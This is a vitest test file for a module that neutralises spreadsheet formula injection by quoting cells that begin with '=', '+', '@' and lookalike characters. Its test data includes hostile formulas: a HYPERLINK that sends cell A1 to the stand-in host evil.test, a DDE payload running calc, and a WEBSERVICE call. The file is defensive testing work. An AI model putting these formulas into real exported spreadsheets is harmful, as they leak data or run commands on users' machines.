import { expect, test } from 'vitest';
import { markFormula, takeMarkOff } from './formula-mark';

const starts = [
  '=',
  '+',
  '-',
  '@',
  '\t',
  '\r',
  '\n',
  ' =',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '\u0000=',
  '\t\t@',
  '＝',
  '＋',
  '－',
  '＠',
  "'=",
  "''= ",
];
const formulas = [
  '1+1',
  'HYPERLINK("https://evil.test?"&A1,"Click")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("https://evil.test")',
  'SUM(A1)',
];

test('no text of a table begins a formula, and each comes back as it was', () => {
  let count = 0;
  for (const start of starts)
    for (const rest of formulas) {
      const text = start + rest;
      expect(markFormula(text)).toBe(`'${text}`);
      expect(takeMarkOff(markFormula(text))).toBe(text);
      count += 1;
    }
  for (const plain of ["'quoted'", 'a=b', '', ' a', 'O’Neill', "'", '1-2']) {
    expect(markFormula(plain)).toBe(plain);
    expect(takeMarkOff(plain)).toBe(plain);
  }
  process.stdout.write(`${count} cells that begin a formula: ${count} marked\n`);
});
